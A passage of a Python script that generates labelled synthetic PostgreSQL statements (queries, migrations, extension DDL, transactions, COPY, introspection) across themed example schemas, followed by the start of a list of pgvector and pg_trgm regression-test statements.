                % r.randint(1, 4))

    @add("cx15_cte_taxon_tree", "complex_cte_window")
    def _(r):
        return ("WITH RECURSIVE ancestors(path, lvl) AS (SELECT %s::ltree, nlevel(%s::ltree) UNION ALL SELECT subpath(path, 0, lvl - 1), lvl - 1 FROM ancestors WHERE lvl > 1) "
                "SELECT u.path, count(s.sheet_id) FROM ancestors u LEFT JOIN herbarium_sheets s ON s.taxon_path <@ u.path GROUP BY u.path ORDER BY nlevel(u.path)"
                % ((lambda v: (v, v))(q(r.choice(["Plantae.Rosaceae.Prunus.spinosa", "Plantae.Fagaceae.Quercus.robur", "Plantae.Betulaceae.Betula.pendula"])))))

    @add("cx15_window_exclude_group", "complex_cte_window")
    def _(r):
        return ("SELECT bib, split_km, split_seconds, avg(split_seconds) OVER w AS peer_avg, rank() OVER (PARTITION BY split_km ORDER BY split_seconds) AS pos FROM runner_splits "
                "WHERE race_id = %d WINDOW w AS (PARTITION BY split_km ORDER BY split_seconds RANGE BETWEEN %d PRECEDING AND %d FOLLOWING EXCLUDE GROUP)" % (r.randint(1, 40), r.randint(5, 60), r.randint(5, 60)))

    @add("cx15_timescale_gapfill", "complex_cte_window")
    def _(r):
        d = rdate(r, 2024, 2025)
        return ("SELECT time_bucket_gapfill('%s', measured_at) AS bucket, segment_id, locf(avg(thickness_cm)) AS cm FROM ice_thickness_readings WHERE measured_at >= %s AND measured_at < %s::date + %d "
                "AND road_id = %d GROUP BY bucket, segment_id ORDER BY bucket" % (r.choice(["1 hour", "6 hours", "1 day"]), q(d), q(d), r.randint(1, 14), r.randint(1, 20)))

    @add("cx15_lateral_knn", "complex_cte_window")
    def _(r):
        return ("SELECT s.station_code, n.tower_name, n.km FROM trap_stations s CROSS JOIN LATERAL (SELECT t.name AS tower_name, ST_Distance(s.geom::geography, t.geom::geography) / 1000 AS km "
                "FROM lookout_towers t ORDER BY s.geom <-> t.geom LIMIT %d) n WHERE s.habitat = %s ORDER BY s.station_code, n.km" % (r.randint(1, 3), q(r.choice(["pine forest", "wetland", "moorland"]))))

    @add("cx15_first_last_window", "complex_cte_window")
    def _(r):
        return ("WITH laps AS (SELECT rider, lap_no, lap_ms, lag(lap_ms) OVER (PARTITION BY rider ORDER BY lap_no) AS prev_ms FROM track_laps WHERE session_id = %d) "
                "SELECT rider, count(*) FILTER (WHERE lap_ms < prev_ms) AS faster_laps, min(lap_ms), percentile_cont(0.5) WITHIN GROUP (ORDER BY lap_ms) AS median_ms FROM laps GROUP BY rider ORDER BY median_ms"
                % r.randint(1, 9000))

    @add("cx15_grouping_sets_report", "complex_cte_window")
    def _(r):
        return ("SELECT ward, species, count(*) AS n, GROUPING(ward, species) AS g FROM street_trees WHERE planted_year >= %d GROUP BY GROUPING SETS ((ward, species), (ward), ()) ORDER BY g, ward, n DESC"
                % r.randint(1950, 2015))

    # ---- set-operation reports
    @add("cx15_union_activity", "complex_union_report")
    def _(r):
        d = q(rdate(r, 2024, 2025))
        return ("SELECT 'pressing' AS kind, test_id AS ref, pressed_at AS at FROM test_pressings WHERE pressed_at >= %s UNION ALL SELECT 'order', order_id, due_on::timestamptz FROM pressing_orders "
                "WHERE due_on >= %s UNION ALL SELECT 'stamper', stamper_id, last_inspected FROM stampers WHERE last_inspected >= %s ORDER BY at DESC LIMIT %d" % (d, d, d, r.choice([20, 50, 100])))

    @add("cx15_except_unreviewed", "complex_union_report")
    def _(r):
        return ("SELECT frame_id FROM trap_frames WHERE station_code = %s EXCEPT SELECT frame_id FROM trap_detections WHERE reviewed_by IS NOT NULL ORDER BY 1 LIMIT %d"
                % (q(r.choice(["KRG-07", "LAKE-N1", "riverbend-2", "MOOR-3"])), r.choice([100, 500])))

    @add("cx15_intersect_qualified", "complex_union_report")
    def _(r):
        return ("(SELECT interpreter_id FROM certifications WHERE body = %s AND level >= %d) INTERSECT (SELECT id FROM interpreters WHERE region = %s) ORDER BY 1"
                % (q(r.choice(["NRCPD", "SASLI", "RID"])), r.randint(3, 6), q(r.choice(["North West", "Glasgow & Clyde", "Wales", "London"]))))

    @add("cx15_union_values_total", "complex_union_report")
    def _(r):
        d = q(rdate(r, 2024, 2025))
        return ("SELECT wave, count(*) AS finishers FROM marathon_results WHERE finished_on = %s GROUP BY wave UNION ALL VALUES ('all', (SELECT count(*) FROM marathon_results WHERE finished_on = %s)) ORDER BY 2 DESC" % (d, d))

    # ---- migrations, indexes, extensions
    @add("cx15_migration_extensions", "complex_migration_script")
    def _(r):
        return r.choice(["CREATE EXTENSION IF NOT EXISTS vector", "CREATE EXTENSION IF NOT EXISTS pg_trgm WITH SCHEMA public", "CREATE EXTENSION IF NOT EXISTS postgis",
                         "CREATE EXTENSION IF NOT EXISTS ltree", "CREATE EXTENSION IF NOT EXISTS hstore", "CREATE EXTENSION IF NOT EXISTS citext",
                         "CREATE EXTENSION IF NOT EXISTS timescaledb CASCADE", "CREATE EXTENSION IF NOT EXISTS pg_cron", "ALTER EXTENSION vector UPDATE TO '0.%d.0'" % r.randint(5, 8),
                         "CREATE EXTENSION IF NOT EXISTS btree_gist", "CREATE EXTENSION IF NOT EXISTS fuzzystrmatch"])

    @add("cx15_migration_vector_index", "complex_migration_script")
    def _(r):
        t, c = r.choice(VEC_TABLES)
        ops = r.choice(["vector_l2_ops", "vector_cosine_ops", "vector_ip_ops"])
        return r.choice(["CREATE INDEX CONCURRENTLY IF NOT EXISTS %s_%s_ivfflat ON %s USING ivfflat (%s %s) WITH (lists = %d)" % (t, c, t, c, ops, r.choice([100, 200, 500, 1000])),
                         "CREATE INDEX IF NOT EXISTS %s_%s_hnsw ON %s USING hnsw (%s %s) WITH (m = %d, ef_construction = %d)" % (t, c, t, c, ops, r.choice([16, 24, 32]), r.choice([64, 128, 200])),
                         "ALTER TABLE %s ADD COLUMN IF NOT EXISTS %s vector(%d)" % (t, c, r.choice([3, 384, 512, 768, 1536]))])

    @add("cx15_migration_gist_gin", "complex_migration_script")
    def _(r):
        gt, gc = r.choice(GEO_TABLES)
        return r.choice(["CREATE INDEX IF NOT EXISTS %s_%s_gist ON %s USING gist (%s)" % (gt, gc, gt, gc),
                         "CREATE INDEX IF NOT EXISTS cafe_games_title_trgm ON cafe_games USING gin (title gin_trgm_ops)",
                         "CREATE INDEX IF NOT EXISTS ringing_methods_name_trgm ON ringing_methods USING gist (method_name gist_trgm_ops(siglen = %d))" % r.choice([32, 64, 128]),
                         "CREATE INDEX IF NOT EXISTS herbarium_sheets_taxon_gist ON herbarium_sheets USING gist (taxon_path)",
                         "CREATE INDEX IF NOT EXISTS street_trees_attrs_gin ON street_trees USING gin (attrs)",
                         "CREATE INDEX IF NOT EXISTS assignment_notes_search ON assignment_notes USING gin (search_vec)",
                         "CREATE INDEX IF NOT EXISTS table_bookings_during ON table_bookings USING gist (table_no, during)"])

    @add("cx15_migration_timescale", "complex_migration_script")
    def _(r):
        t = r.choice(["chip_crossings", "ice_thickness_readings", "trap_detections"])
        col = {"chip_crossings": "crossed_at", "ice_thickness_readings": "measured_at", "trap_detections": "captured_at"}[t]
        return r.choice(["SELECT create_hypertable('%s', '%s', chunk_time_interval => INTERVAL '%s', if_not_exists => TRUE)" % (t, col, r.choice(["1 day", "7 days", "1 hour"])),
                         "SELECT add_retention_policy('%s', INTERVAL '%d days')" % (t, r.choice([30, 90, 365])),
                         "ALTER TABLE %s SET (timescaledb.compress, timescaledb.compress_segmentby = '%s')" % (t, r.choice(["race_id", "road_id", "station_code"])),
                         "SELECT add_compression_policy('%s', INTERVAL '%d days')" % (t, r.choice([3, 7, 14]))])

    @add("cx15_migration_bookkeeping", "complex_migration_script")
    def _(r):
        v = mig_version(r)
        return r.choice([
            'INSERT INTO "django_migrations" ("app", "name", "applied") VALUES (%s, %s, %s::timestamptz) RETURNING "django_migrations"."id"' % (
                q(r.choice(["ocular", "forestry", "interpreting"])), q("%04d_%s" % (r.randint(1, 40), r.choice(["irisscan_colour_vec", "streettree_geom", "auto_20250301_1200"]))), q(ts(r) + "+00")),
            'INSERT INTO "schema_migrations" ("version") VALUES (%s) RETURNING "version"' % q(v),
            'INSERT INTO "ar_internal_metadata" ("key", "value", "created_at", "updated_at") VALUES (\'environment\', \'production\', %s, %s) ON CONFLICT ("key") DO UPDATE SET "value" = excluded."value"' % (q(ts(r)), q(ts(r))),
            'insert into "knex_migrations" ("batch", "migration_time", "name") values (%d, %s, %s)' % (r.randint(1, 60), q(ts(r) + ".%03d+00" % r.randint(0, 999)), q("%s_%s.js" % (v, r.choice(["lacquers", "stampers", "orders"])))),
            'update "knex_migrations_lock" set "is_locked" = %d where "is_locked" = %d' % ((1, 0) if r.random() < 0.5 else (0, 1)),
            'INSERT INTO "seaql_migrations" ("version", "applied_at") VALUES (%s, %d)' % (q("m%s_%06d_%s" % (v[:8], r.randint(0, 999999), r.choice(["create_dye_lots", "add_recipe", "vats"]))), r.randint(1700000000, 1760000000)),
            "INSERT INTO doctrine_migration_versions (version, executed_at, execution_time) VALUES (%s, %s, %d)" % (q("DoctrineMigrations\\Version%s" % v), q(ts(r)), r.randint(10, 9000)),
            "UPDATE mojo_migrations SET version = %d WHERE name = 'ringers'" % r.randint(1, 40)])

    @add("cx15_ddl_extension_tables", "complex_ddl_migration")
    def _(r):
        return r.choice([
            "CREATE TABLE IF NOT EXISTS trap_frames (frame_id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, station_code text NOT NULL, captured_at timestamptz NOT NULL, clip_embedding vector(%d), reviewed boolean NOT NULL DEFAULT false)" % r.choice([512, 768]),
            "CREATE TABLE IF NOT EXISTS street_trees (tree_id bigserial PRIMARY KEY, species text NOT NULL, ward text, dbh_cm numeric(5,1), attrs hstore NOT NULL DEFAULT '', geom geometry(Point, 4326) NOT NULL)",
            "CREATE TABLE IF NOT EXISTS herbarium_sheets (sheet_id bigserial PRIMARY KEY, barcode text UNIQUE NOT NULL, taxon_path ltree NOT NULL, determinations jsonb NOT NULL DEFAULT '[]', duplicates text[] NOT NULL DEFAULT '{}')",
            "CREATE TABLE IF NOT EXISTS cafe_members (member_id serial PRIMARY KEY, email citext UNIQUE NOT NULL, nickname text, loyalty_stamps int NOT NULL DEFAULT 0 CHECK (loyalty_stamps >= 0))",
            "CREATE TABLE IF NOT EXISTS table_bookings (booking_id serial PRIMARY KEY, table_no int NOT NULL, during tstzrange NOT NULL, EXCLUDE USING gist (table_no WITH =, during WITH &&))"])

    @add("cx15_ddl_views", "complex_ddl_migration")
    def _(r):
        return r.choice([
            "CREATE MATERIALIZED VIEW IF NOT EXISTS chip_rate_5m WITH (timescaledb.continuous) AS SELECT time_bucket('5 minutes', crossed_at) AS bucket, mat_id, count(*) AS n FROM chip_crossings GROUP BY 1, 2 WITH NO DATA",
            "CREATE OR REPLACE VIEW tower_depth AS SELECT tower_id, dedication, nlevel(diocese_path) AS depth, subpath(diocese_path, 0, 2) AS diocese FROM ringing_towers",
            "ALTER TABLE assignment_notes ADD COLUMN IF NOT EXISTS search_vec tsvector GENERATED ALWAYS AS (to_tsvector('english', coalesce(title, '') || ' ' || coalesce(body, ''))) STORED",
            "CREATE DOMAIN cron_expr AS text CHECK (VALUE ~ '^(@[a-z]+|(\\S+\\s+){4}\\S+)$')",
            "CREATE TYPE fitting_side AS ENUM ('left', 'right', 'both')"])

    @add("cx15_ddl_alter_columns", "complex_ddl_migration")
    def _(r):
        vt, vc = r.choice(VEC_TABLES)
        gt, gc = r.choice(GEO_TABLES)
        return r.choice(["ALTER TABLE %s ALTER COLUMN %s TYPE vector(%d)" % (vt, vc, r.choice([256, 384, 768, 1024])),
                         "ALTER TABLE %s ALTER COLUMN %s TYPE geometry(%s, 4326) USING ST_SetSRID(%s, 4326)" % (gt, gc, r.choice(["Point", "Geometry", "MultiPolygon"]), gc),
                         "ALTER TABLE %s ADD COLUMN IF NOT EXISTS %s_3857 geometry GENERATED ALWAYS AS (ST_Transform(%s, 3857)) STORED" % (gt, gc, gc),
                         "CREATE TABLE IF NOT EXISTS %s_%d PARTITION OF %s FOR VALUES FROM ('%d-01-01') TO ('%d-01-01')" % ((lambda t, y: (t, y, t, y, y + 1))(
                             r.choice(["chip_crossings", "trap_detections", "ice_thickness_readings"]), r.randint(2022, 2027))),
                         "ALTER TABLE cafe_members ALTER COLUMN email TYPE citext, ADD CONSTRAINT cafe_members_email_chk CHECK (email ~ '^[^@]+@[^@]+$')",
                         "COMMENT ON COLUMN %s.%s IS %s" % (vt, vc, q("embedding from model %s, %d dims" % (r.choice(["clip-vit-b-32", "openl3", "lab-colour"]), r.choice([3, 512, 768]))))])

    # ---- batch inserts
    @add("cx15_batch_vectors", "complex_batch_insert")
    def _(r):
        rows = ", ".join("(%s, %s, %s)" % (q("KRG-%02d" % r.randint(1, 20)), q(ts(r) + "+00"), vec(r, 4)) for _ in range(r.randint(2, 6)))
        return "INSERT INTO trap_frames (station_code, captured_at, clip_embedding) VALUES %s" % rows

    @add("cx15_batch_geometries", "complex_batch_insert")
    def _(r):
        rows = ", ".join("(%s, %s, ST_GeomFromText(%s, 4326))" % ((lambda x, y: (q(r.choice(TREES)), q(r.choice(["Harbourside", "Old Town", "Riverside"])), q("POINT(%.5f %.5f)" % (x, y))))(*pt(r)))
                         for _ in range(r.randint(2, 5)))
        return "INSERT INTO street_trees (species, ward, geom) VALUES %s RETURNING tree_id" % rows

    @add("cx15_batch_unnest", "complex_batch_insert")
    def _(r):
        n = r.randint(2, 6)
        return ("INSERT INTO chip_crossings (bib, mat_id, crossed_at) SELECT * FROM unnest(ARRAY[%s]::int[], ARRAY[%s]::int[], ARRAY[%s]::timestamptz[]) ON CONFLICT DO NOTHING"
                % (ids(r, n, 40000), ", ".join(str(r.randint(1, 12)) for _ in range(n)), ", ".join(q(ts(r, 2025, 2025) + "+00") for _ in range(n))))

    @add("cx15_batch_hstore_ltree", "complex_batch_insert")
    def _(r):
        rows = ", ".join("(%s, %s, %s)" % (q(r.choice(TOWERS) + ".T%d" % r.randint(1, 99)), q(r.choice(["St Mary", "All Saints", "St Peter", "Holy Trinity"])), r.choice([6, 8, 10, 12]))
                         for _ in range(r.randint(2, 5)))
        return "INSERT INTO ringing_towers (diocese_path, dedication, bells) VALUES %s ON CONFLICT (diocese_path) DO UPDATE SET bells = EXCLUDED.bells" % rows

    # ---- maintenance, monitoring, admin
    @add("cx15_admin_monitoring", "complex_maintenance_admin")
    def _(r):
        return r.choice(["SELECT queryid, calls, round(total_exec_time::numeric, 1) AS total_ms, left(query, 80) FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT %d" % r.choice([10, 20, 50]),
                         "SELECT extname, extversion FROM pg_extension ORDER BY extname", "SELECT pg_stat_statements_reset()",
                         "SELECT jobid, runid, status, return_message, start_time FROM cron.job_run_details WHERE status = 'failed' ORDER BY start_time DESC LIMIT %d" % r.choice([20, 50]),
                         "SELECT hypertable_name, num_chunks, compression_enabled FROM timescaledb_information.hypertables ORDER BY hypertable_name",
                         "SELECT postgis_full_version()", "SELECT pid, wait_event_type, wait_event, state, now() - query_start AS running FROM pg_stat_activity WHERE state <> 'idle' ORDER BY running DESC NULLS LAST",
                         "SELECT relname, n_dead_tup, last_autovacuum FROM pg_stat_user_tables WHERE n_dead_tup > %d ORDER BY n_dead_tup DESC" % r.choice([1000, 10000])])

    @add("cx15_admin_tuning", "complex_maintenance_admin")
    def _(r):
        vt, vc = r.choice(VEC_TABLES)
        return r.choice(["SET ivfflat.probes = %d" % r.choice([1, 5, 10, 20]), "SET hnsw.ef_search = %d" % r.choice([40, 100, 200]), "SET pg_trgm.similarity_threshold = 0.%d" % r.randint(2, 6),
                         "SET pg_trgm.word_similarity_threshold = 0.%d" % r.randint(4, 8), "VACUUM (ANALYZE, VERBOSE) %s" % vt, "REINDEX INDEX CONCURRENTLY %s_%s_hnsw" % (vt, vc),
                         "ANALYZE street_trees", "SELECT cron.unschedule('%s')" % r.choice(["expire-certs", "nightly-vacuum"]),
                         "SELECT cron.schedule('nightly-vacuum', '%d %d * * *', 'VACUUM ANALYZE')" % (r.randint(0, 59), r.randint(0, 5))])

    # ---- transactions
    @add("cx15_tx_blocks", "complex_transactions")
    def _(r):
        return r.choice([
            "BEGIN; SET LOCAL %s = %d; SELECT frame_id FROM trap_frames ORDER BY clip_embedding <-> %s LIMIT %d; COMMIT" % (r.choice(["ivfflat.probes", "hnsw.ef_search"]), r.choice([5, 10, 40]), vec(r, 4), r.choice([10, 24])),
            "BEGIN; SELECT stamper_id FROM stampers WHERE catalogue_no = %s FOR SHARE OF stampers; UPDATE test_pressings SET verdict = %s WHERE test_id = %d; COMMIT" % (
                q("WARP-LP-%d" % r.randint(100, 999)), q(r.choice(["approved", "rejected", "re-plate"])), r.randint(1, 9000)),
            "BEGIN; SELECT pg_advisory_xact_lock(%d, %d); INSERT INTO interpreting_bookings (client, modality, starts_at) VALUES (%s, %s, %s); COMMIT" % (
                r.randint(1, 50), r.randint(1, 10 ** 6), q(r.choice(PEOPLE)), q(r.choice(["BSL-English", "deafblind manual", "Makaton"])), q(ts(r))),
            "START TRANSACTION ISOLATION LEVEL %s; SELECT sum(qty) FROM felt_stock WHERE colour = %s; COMMIT" % (r.choice(["SERIALIZABLE", "REPEATABLE READ"]), q(r.choice(["bottle green", "silver belly", "navy"]))),
            "SAVEPOINT shift_upsert; INSERT INTO lookout_shifts (tower_id, observer, starts_at) VALUES (%d, %s, %s); RELEASE SAVEPOINT shift_upsert" % (r.randint(1, 40), q(r.choice(PEOPLE)), q(ts(r))),
            "BEGIN READ ONLY; SELECT segment_id, surface_state FROM ice_road_segments WHERE road_id = %d FOR SHARE OF ice_road_segments NOWAIT; ROLLBACK" % r.randint(1, 20),
            "BEGIN; DELETE FROM table_bookings WHERE booking_id = %d RETURNING table_no; SELECT pg_notify('interpreting_bookings', '%d'); COMMIT" % ((lambda b: (b, b))(r.randint(1, 90000))),
            "LISTEN peal_board_%s" % r.choice(["york", "norwich", "exeter", "oxford", "wells"]), "UNLISTEN lookout_alerts_%d" % r.randint(1, 40),
            "NOTIFY lookout_alerts, %s" % q('{"tower": %d, "bearing": %d}' % (r.randint(1, 40), r.randint(0, 359)))])

    @add("cx15_prepared_knn", "complex_parameterized")
    def _(r):
        return r.choice(["PREPARE knn_frames(vector, int) AS SELECT frame_id FROM trap_frames ORDER BY clip_embedding <-> $1 LIMIT $2",
                         "EXECUTE knn_frames(%s, %d)" % (vec(r, 4), r.choice([5, 10, 24])), "DEALLOCATE knn_frames",
                         "PREPARE towers_under(ltree) AS SELECT tower_id FROM ringing_towers WHERE diocese_path <@ $1", "EXECUTE towers_under(%s)" % q(r.choice(TOWERS))])

    # ---- COPY
    copy_tables = {"chip_crossings": ["bib", "mat_id", "crossed_at"], "trap_frames": ["station_code", "captured_at", "clip_embedding"],
                   "herbarium_sheets": ["barcode", "collector", "taxon_path"], "street_trees": ["species", "ward", "dbh_cm", "geom"],
                   "dye_lot_imports": ["lot_code", "colourway", "dyed_on"], "ice_thickness_readings": ["segment_id", "measured_at", "thickness_cm"],
                   "peal_records": ["tower_id", "method_name", "changes", "rung_on"]}

    @add("cx15_copy_from_stdin", "complex_copy_stdin")
    def _(r):
        t = r.choice(sorted(copy_tables))
        cols = copy_tables[t][:r.randint(2, len(copy_tables[t]))]
        fmt = r.choice(["csv", "csv", "text", "binary"])
        opts = ["FORMAT %s" % fmt]
        if fmt != "binary":
            opts += r.sample(["DELIMITER %s" % r.choice(["';'", "'|'", "E'\\t'", "','"]), "NULL %s" % r.choice(["''", "'\\N'", "'NULL'"]), "ENCODING %s" % q(r.choice(["UTF8", "LATIN1", "WIN1252"]))], r.randint(0, 2))
        if fmt == "csv":
            opts += r.sample(["HEADER %s" % r.choice(["true", "match", "false"]), "QUOTE '\"'", "ESCAPE '\\'", "FORCE_NULL (%s)" % cols[-1], "FORCE_NOT_NULL (%s)" % cols[0]], r.randint(1, 3))
        if r.random() < 0.15:
            opts.append("FREEZE")
        return "COPY %s (%s) FROM STDIN %s(%s)" % (t, ", ".join(cols), r.choice(["WITH ", ""]), ", ".join(opts))

    @add("cx15_copy_to_stdout", "complex_copy_stdin")
    def _(r):
        return r.choice(["COPY (SELECT tree_id, species, ST_AsText(geom) FROM street_trees WHERE ward = %s) TO STDOUT WITH (FORMAT csv, HEADER)" % q(r.choice(["Harbourside", "Old Town", "Riverside"])),
                         "COPY (SELECT bib, gun_time FROM marathon_results WHERE race_id = %d ORDER BY gun_time) TO STDOUT (FORMAT csv, DELIMITER E'\\t')" % r.randint(1, 40),
                         "COPY (SELECT frame_id, clip_embedding::text FROM trap_frames WHERE captured_at >= %s) TO STDOUT (FORMAT text)" % q(rdate(r, 2024, 2025)),
                         "COPY herbarium_sheets (barcode, taxon_path) TO STDOUT WITH (FORMAT csv, FORCE_QUOTE (taxon_path))"])

    # ---- introspection from the tools
    @add("cx15_introspection", "complex_orm_introspection")
    def _(r):
        t = r.choice(["anchors", "street_trees", "trap_frames", "interpreters", "lookout_towers"])
        return r.choice([
            "SELECT c.relname, CASE WHEN c.relispartition THEN 'p' WHEN c.relkind IN ('m', 'v') THEN 'v' ELSE 't' END, obj_description(c.oid, 'pg_class') FROM pg_catalog.pg_class c "
            "LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('f', 'm', 'p', 'r', 'v') AND n.nspname NOT IN ('pg_catalog', 'pg_toast') AND pg_catalog.pg_table_is_visible(c.oid)",
            "SELECT a.attname, format_type(a.atttypid, a.atttypmod), pg_get_expr(d.adbin, d.adrelid), a.attnotnull, a.atttypid, a.atttypmod, c.collname, col_description(a.attrelid, a.attnum) AS comment, "
            "attidentity AS identity, attgenerated AS attgenerated FROM pg_attribute a LEFT JOIN pg_attrdef d ON a.attrelid = d.adrelid AND a.attnum = d.adnum LEFT JOIN pg_type t ON a.atttypid = t.oid "
            "LEFT JOIN pg_collation c ON a.attcollation = c.oid AND a.attcollation <> t.typcollation WHERE a.attrelid = %s::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum" % q('"%s"' % t),
            "SELECT f_table_schema, f_table_name, f_geometry_column, coord_dimension, srid, type FROM geometry_columns WHERE f_table_name = %s" % q(t),
            "SELECT n.nspname AS schema, p.proname AS name, pg_get_function_identity_arguments(p.oid) AS args, p.provolatile FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace WHERE n.nspname = ANY(ARRAY['public'])",
            "SELECT t.typname, t.typtype, e.extname FROM pg_type t JOIN pg_depend d ON d.objid = t.oid AND d.deptype = 'e' JOIN pg_extension e ON e.oid = d.refobjid WHERE t.typname IN ('vector', 'geometry', 'ltree', 'hstore', 'citext')"])

    # ---- function bodies
    @add("cx15_plpgsql", "complex_plpgsql_body")
    def _(r):
        return r.choice([
            "CREATE OR REPLACE FUNCTION towers_within(lat float8, lon float8, km float8) RETURNS SETOF lookout_towers LANGUAGE sql STABLE AS $$ SELECT * FROM lookout_towers WHERE ST_DWithin(geom::geography, ST_MakePoint(lon, lat)::geography, km * 1000) $$",
            "CREATE OR REPLACE FUNCTION notes_search_trigger() RETURNS trigger LANGUAGE plpgsql AS $fn$ BEGIN NEW.search_vec := to_tsvector('english', coalesce(NEW.title, '') || ' ' || coalesce(NEW.body, '')); RETURN NEW; END $fn$",
            "CREATE OR REPLACE FUNCTION taxon_depth(p ltree) RETURNS int LANGUAGE sql IMMUTABLE PARALLEL SAFE RETURN nlevel(p)",
            "DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM cron.job WHERE jobname = 'nightly-vacuum') THEN PERFORM cron.schedule('nightly-vacuum', '0 %d * * *', 'VACUUM ANALYZE'); END IF; END $$" % r.randint(0, 5),
            "CREATE OR REPLACE FUNCTION nearest_frames(q vector, k int DEFAULT 10) RETURNS TABLE (frame_id bigint, dist float8) LANGUAGE sql STABLE AS $body$ SELECT frame_id, clip_embedding <-> q FROM trap_frames ORDER BY 2 LIMIT k $body$"])

    # ---- search
    @add("cx15_search_hybrid", "complex_search_complex")
    def _(r):
        w = q(r.choice(GAMES + ["legacy campaign", "deck building", "co-op"]))
        return r.choice([
            "SELECT g.game_id, g.title, ts_rank(g.search_vec, websearch_to_tsquery('english', %s)) * 0.6 + similarity(g.title, %s) * 0.4 AS score FROM cafe_games g "
            "WHERE g.search_vec @@ websearch_to_tsquery('english', %s) OR g.title %% %s ORDER BY score DESC LIMIT 20" % (w, w, w, w),
            "WITH k AS (SELECT frame_id, clip_embedding <=> %s AS d FROM trap_frames ORDER BY 2 LIMIT 100) SELECT f.frame_id, k.d FROM k JOIN trap_frames f USING (frame_id) WHERE f.species_guess %% %s ORDER BY k.d LIMIT 10" % (vec(r, 4), w)])
    return G


# ---------------------------------------------------------------- regression-test-style statements (extension test suites and core)
REGRESS_FIXED = [
 ("vector", "SELECT '[1,2,3]'::vector"), ("vector", "SELECT '[-1,-2,-3]'::vector"), ("vector", "SELECT '[1.,2.,3.]'::vector"),
 ("vector", "SELECT ' [ 1,  2 ,    3  ] '::vector"), ("vector", "SELECT '[1.23456]'::vector"), ("vector", "SELECT '[hello,1]'::vector"),
 ("vector", "SELECT '[4e38,1]'::vector"), ("vector", "SELECT '[1,2,3'::vector"), ("vector", "SELECT '[]'::vector"), ("vector", "SELECT '[1,2,3]'::vector(3)"),
 ("vector", "SELECT '[1,2,3]'::vector(2)"), ("vector", "SELECT ARRAY[1,2,3]::vector"), ("vector", "SELECT '{1,2,3}'::real[]::vector"),
 ("vector", "SELECT '[1,2,3]'::vector::real[]"), ("vector", "SELECT '{NULL}'::real[]::vector"), ("vector", "SELECT '[1,2,3]'::vector + '[4,5,6]'"),
 ("vector", "SELECT '[1,2,3]'::vector - '[4,5,6]'"), ("vector", "SELECT '[1,2,3]'::vector * '[4,5,6]'"), ("vector", "SELECT '[1,2,3]'::vector < '[1,2]'"),
 ("vector", "SELECT '[1,2,3]'::vector = '[1,2,3]'"), ("vector", "SELECT vector_cmp('[1,2,3]', '[1,2,3]')"), ("vector", "SELECT round(vector_norm('[1,1]')::numeric, 5)"),
 ("vector", "SELECT l2_distance('[0,0]', '[3,4]')"), ("vector", "SELECT '[0,0]'::vector <-> '[3,4]'"), ("vector", "SELECT inner_product('[1,2]', '[3,4]')"),
 ("vector", "SELECT '[1,2]'::vector <#> '[3,4]'"), ("vector", "SELECT cosine_distance('[1,2]', '[2,4]')"), ("vector", "SELECT '[1,2]'::vector <=> '[0,0]'"),
 ("vector", "SELECT l1_distance('[0,0]', '[3,4]')"), ("vector", "SELECT '[0,0]'::vector <+> '[3,4]'"), ("vector", "SELECT vector_dims('[1,2,3]')"),
 ("vector", "SELECT avg(v) FROM unnest(ARRAY['[1,2,3]'::vector, '[3,5,7]']) v"), ("vector", "SELECT sum(v) FROM unnest(ARRAY['[1,2,3]'::vector, '[3,5,7]', NULL]) v"),
 ("vector", "SELECT subvector('[1,2,3,4,5]'::vector, 2, 3)"), ("vector", "SELECT l2_normalize('[3,4]'::vector)"), ("vector", "SELECT binary_quantize('[1,0,-1]'::vector)"),
 ("halfvec", "SELECT '[1,2,3]'::halfvec"), ("halfvec", "SELECT '[65520]'::halfvec"), ("halfvec", "SELECT '[1,2,3]'::halfvec <-> '[3,2,1]'"),
 ("sparsevec", "SELECT '{1:1.5,3:3.5}/5'::sparsevec"), ("sparsevec", "SELECT '{1:1,2:2}/2'::sparsevec <-> '{}/2'"), ("bit", "SELECT '111'::bit(3) <~> '101'"),
 ("bit", "SELECT '1111'::bit(4) <%> '1010'"), ("ivfflat", "CREATE TABLE t_ivf (val vector(3))"), ("ivfflat", "CREATE INDEX ON t_ivf USING ivfflat (val vector_l2_ops) WITH (lists = 1)"),
 ("ivfflat", "SET ivfflat.probes = 1"), ("ivfflat", "SELECT * FROM t_ivf ORDER BY val <-> '[3,3,3]'"), ("ivfflat", "SELECT COUNT(*) FROM (SELECT * FROM t_ivf ORDER BY val <-> (SELECT NULL::vector)) t2"),
 ("hnsw", "CREATE TABLE t_hnsw (val vector(3))"), ("hnsw", "CREATE INDEX ON t_hnsw USING hnsw (val vector_cosine_ops) WITH (m = 4, ef_construction = 8)"),
 ("hnsw", "SET hnsw.ef_search = 10"), ("hnsw", "SELECT * FROM t_hnsw ORDER BY val <=> '[3,3,3]' LIMIT 5"), ("hnsw", "SET hnsw.iterative_scan = strict_order"),
 ("pg_trgm", "select show_trgm('')"), ("pg_trgm", "select show_trgm('(*&^$@%@')"), ("pg_trgm", "select show_trgm('a b c')"), ("pg_trgm", "select show_trgm(' a b c ')"),
 ("pg_trgm", "select show_trgm('aA bB cC')"), ("pg_trgm", "select similarity('wow','WOWa ')"), ("pg_trgm", "select similarity('wow',' WOW ')"),
 ("pg_trgm", "select similarity('---', '####---')"), ("pg_trgm", "create table test_trgm15(t text COLLATE \"C\")"),
 ("pg_trgm", "select t,similarity(t,'qwertyu0988') as sml from test_trgm15 where t % 'qwertyu0988' order by sml desc, t"),
 ("pg_trgm", "select t <-> 'q0987wertyu0988', t from test_trgm15 order by t <-> 'q0987wertyu0988' limit 2"),
 ("pg_trgm", "create index trgm15_idx on test_trgm15 using gist (t gist_trgm_ops)"), ("pg_trgm", "create index trgm15_gin on test_trgm15 using gin (t gin_trgm_ops)"),
 ("pg_trgm", "set enable_seqscan=off"), ("pg_trgm", "select * from test_trgm15 where t ~ '[qwerty]{2}-?[qwerty]{2}'"),
 ("pg_trgm", "select * from test_trgm15 where t ilike '%qwerty%'"), ("pg_trgm", "select word_similarity('Kabankala', 'Kabankala_Cathedral')"),
 ("pg_trgm", "select strict_word_similarity('Kabankala', 'Kabankala_Cathedral')"), ("pg_trgm", "set pg_trgm.word_similarity_threshold to 0.5"),
